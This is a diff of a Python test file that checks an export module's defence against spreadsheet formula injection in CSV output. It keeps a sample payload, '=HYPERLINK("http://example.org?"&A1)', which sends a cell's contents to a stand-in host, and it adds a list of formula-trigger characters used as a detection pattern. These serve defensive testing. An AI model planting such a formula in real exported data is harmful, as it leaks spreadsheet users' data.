@@ -12,7 +12,9 @@ from postwright.flow.analysis import operations
 from postwright.flow.analysis.queries import export, history
 from postwright.flow.media import operations as media
 from postwright.flow.media.tests import files
+from postwright.kit.ids import uuid7
 
+CALCULATES = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 FORMULA = '=HYPERLINK("http://example.org?"&A1)'
 
 
@@ -67,13 +69,29 @@ class TestExport:
 
         assert f"'{FORMULA}" in {row["used"] for row in rows}
 
-    @given(st.lists(st.text(), min_size=1, max_size=5))
+    @given(st.lists(st.text() | st.text(';="+-@,\n\r\t a'), min_size=1, max_size=5))
     def test_keeps_every_cell_apart_and_harmless(self, cells):
         line = export._line(map(export._harmless, cells))
         [row] = csv.reader(io.StringIO(line, newline=""))
 
-        assert [cell.removeprefix("'") for cell in row] == [cell.removeprefix("'") for cell in cells]
-        assert not [cell for cell in row if cell.lstrip(" ").startswith(export._FORMULA)]
+        assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "") for cell in cells]
+        assert not [cell for cell in row if cell.lstrip(" ").startswith(CALCULATES)]
+
+    @given(st.lists(st.text(';="+-@,\n\r\t a'), min_size=1, max_size=5))
+    def test_is_harmless_where_cells_are_parted_at_semicolons(self, cells):
+        """As Excel does in Germany, quotes or not."""
+        line = export._line(map(export._harmless, cells))
+        rows = csv.reader(io.StringIO(line, newline=""), delimiter=";")
+
+        assert not [cell for row in rows for cell in row if cell.lstrip(' \t"').startswith(CALCULATES)]
+
+    @pytest.mark.parametrize("cell", ["a;=1+1", "a\n=1+1", 'a; "=1+1', "=1+1", "\t=1+1"])
+    def test_marks_what_would_be_calculated(self, cell):
+        assert export._harmless(cell).count("'") == 1
+
+    @pytest.mark.parametrize("cell", ["Bread; rolls\n\nAnd more.", "a = b", "x@example.org"])
+    def test_leaves_all_else_as_it_is(self, cell):
+        assert export._harmless(cell) == cell
 
     def test_holds_what_the_history_shows(self, exported, finished):
         assert json.loads(exported("json", q="oat")) != []
@@ -82,6 +100,16 @@ class TestExport:
             == json.loads(exported("json", since="2030-01-01"))
             == []
         )
+
+    def test_leaves_out_other_runs_of_what_it_shows(self, exported, as_member, wilma, finished):
+        batch, item, brand = uuid7(), finished.media_item, finished.brand
+        operations.request_analysis(media_item=item, brand=brand, batch=batch, by=wilma, at=NOON)
+        together = read(as_member(wilma).get(reverse("batch-export", args=[batch, "json"])))
+
+        assert len(json.loads(exported("json"))) == 2
+        assert len(json.loads(together)) == 1
+        assert [one["analysis"] for one in json.loads(exported("json", q="oat"))] == [str(finished.pk)]
+        assert len(json.loads(exported("json", q="coffee.png"))) == 2
 
     def test_reads_on_where_there_is_more(self, exported, finished, anna, brand, monkeypatch):
         monkeypatch.setattr(history, "AT_ONCE", 1)
